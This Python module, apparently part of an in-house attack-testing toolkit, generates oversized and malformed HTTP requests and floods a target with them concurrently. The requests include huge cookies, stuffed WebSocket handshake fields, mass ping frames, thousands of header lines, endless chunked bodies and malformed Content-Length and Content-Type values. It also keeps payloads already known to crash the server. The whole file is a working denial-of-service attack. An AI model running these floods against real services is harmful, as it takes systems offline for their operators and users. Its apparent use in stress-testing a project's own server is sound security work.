"""Heads that are cheap to send and were dear to parse, each as large as one may be."""

from collections.abc import Iterator

from tools.attack.wire import Tally, Target, at_once, exchange

LONGEST = 16_000  # bytes of a head; Twisted reads 16 KB
SOCKET = (
    "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)  # fmt: skip
CHUNKED = "Transfer-Encoding: chunked"
PING = b"\x89\x80\0\0\0\0"  # a frame of six bytes


def heads(target: Target, name: str) -> Iterator[bytes]:
    """Whole requests, those of one finding after the other."""
    yield from {
        "cookies": _cookies, "handshakes": _handshakes, "lines": _lines, "traps": _traps,
    }[name](target)  # fmt: skip


def _cookies(target: Target) -> Iterator[bytes]:
    for unit in ("\\", '"', ";", "a=b;", "a="):
        yield target.whole("GET", "/", [f'Cookie: a="{_filled(unit)}"'])
        yield target.whole("GET", "/ws/screen/", [f'Cookie: a="{_filled(unit)}"', *SOCKET])


def _handshakes(target: Target) -> Iterator[bytes]:
    for name in ("Sec-WebSocket-Extensions", "Sec-WebSocket-Protocol", "Origin", "Upgrade"):
        for unit in ("a,", "a;", "[", "\x85"):
            yield target.whole("GET", "/ws/screen/", [*SOCKET, f"{name}: {_filled(unit)}"])
    yield target.whole("GET", f"/ws/screen/?{_filled('a=b&')}", SOCKET)
    yield target.whole("GET", "/ws/screen/", SOCKET, PING * 100_000)


def _lines(target: Target) -> Iterator[bytes]:
    yield target.whole("GET", "/", ["x: y"] * 1200)
    yield target.whole("GET", "/", [f"x{number}: y" for number in range(490)])
    yield target.whole("GET", "/", ["a: b", *[" "] * 15_000])
    yield target.head("POST", "/", [CHUNKED]) + b"1\r\nx\r\n" * 100_000
    yield target.head("POST", "/", [CHUNKED]) + b"1\r\nx\r\n0\r\n" + b"a\r\n" * 16_000


def _traps(target: Target) -> Iterator[bytes]:
    """Heads that ended in a server error, with its calls in the log."""
    for field in (
        "Content-Type: text/plain; b*=x''", "Content-Type: text/plain; charset=hex",
        "Accept: a;b*=x''", f"Content-Length: {'1' * 5000}",
    ):  # fmt: skip
        yield target.head("POST", "/api/decide", [field])
    yield target.whole("GET", f"/sign-in/?{'&'.join(['a'] * 2500)}")


def _filled(unit: str) -> str:
    return unit * ((LONGEST - 1000) // len(unit.encode("latin-1")))


async def flood_of_heads(target: Target, *, name: str, count: int, stranger: int) -> Tally:
    """Each head of ``name`` sent ``count`` times at once by one stranger."""
    tally = Tally()
    for head in heads(target, name):
        tally.merge(await at_once(exchange(target, stranger, head) for _ in range(count)))
    return tally
